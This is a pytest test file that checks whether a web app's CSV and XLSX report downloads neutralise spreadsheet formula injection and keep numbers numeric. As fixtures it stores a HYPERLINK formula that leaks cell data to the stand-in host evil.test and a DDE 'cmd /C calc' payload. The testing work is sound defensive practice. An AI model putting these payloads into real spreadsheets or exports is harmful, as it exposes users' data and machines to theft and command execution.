"""Stored text never becomes a formula in a CSV or XLSX download (OWASP CSV injection),
and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from tests.exports import download
from tests.factories import ContributionFactory, UserFactory
from tests.report_data import generated_programme

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
LINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'


@pytest.fixture
def programme(db):
    made = generated_programme(seed=3)
    made["meetings"][0].title = LINK
    made["meetings"][1].title = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    return made


@pytest.fixture
def admin_client(client, auth, programme):
    auth.login(programme["admin"].email)
    return client


@pytest.fixture
def donor_client(client, auth, db, programme):
    donor = programme["donors"][0]
    ContributionFactory(donor=donor, reference="=1+2")
    ContributionFactory(donor=donor, reference="#N/A")
    user = UserFactory(role="donor", donor=donor)
    db.session.commit()
    auth.login(user.email)
    return client


def _cells(data: bytes, sheet: str):
    ws = load_workbook(io.BytesIO(data))[sheet]
    return [cell for row in ws.iter_rows() for cell in row]


def test_programme_xlsx_writes_a_formula_title_as_text(admin_client):
    cells = _cells(download(admin_client, "/admin/reports/programme.xlsx").data, "Programme")
    titles = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert titles
    assert all(c.data_type == "s" and c.value == "'" + LINK for c in titles)
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.data_type == "s" and c.value.startswith("'@SUM") for c in cells if c.value)
    numbers = [c for c in cells if c.column == 4 and c.row > 1]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_donor_xlsx_writes_formula_and_error_references_as_text(donor_client):
    data = download(donor_client, "/donor/report.xlsx").data
    cells = _cells(data, "Contributions")
    references = {c.value: c for c in cells if c.column == 1}
    assert references["'=1+2"].data_type == "s"
    assert references["#N/A"].data_type == "s"
    assert not [c for c in cells + _cells(data, "Awards") if c.data_type in ("f", "e")]
    amounts = [c for c in cells if c.column == 3 and c.row > 1]
    assert amounts and all(c.data_type == "n" for c in amounts)


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would read as a formula (a negative number is a number)."""
    return [c for c in cells if c[:1] in FORMULA_START and not NUMBER.fullmatch(c)]


@pytest.mark.parametrize("path", ["/admin/reports/programme.csv"])
def test_programme_csv_neutralises_formula_cells(admin_client, path):
    rows = _csv(download(admin_client, path))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells
    assert not _formulas(cells)


def test_donor_csv_neutralises_formula_cells(donor_client, programme):
    cells = [cell for row in _csv(download(donor_client, "/donor/report.csv")) for cell in row]
    assert "'" + LINK in cells
    assert not _formulas(cells)


def test_control_characters_already_stored_do_not_break_the_workbook(db, admin_client, programme):
    programme["meetings"][0].title = "Bad\x01title\x0b"
    db.session.commit()
    response = download(admin_client, "/admin/reports/programme.xlsx")
    assert response.status_code == 200
    titles = [
        c.value for c in _cells(response.data, "Programme") if c.value and "title" in str(c.value)
    ]
    assert "Bad\ufffdtitle\ufffd" in titles
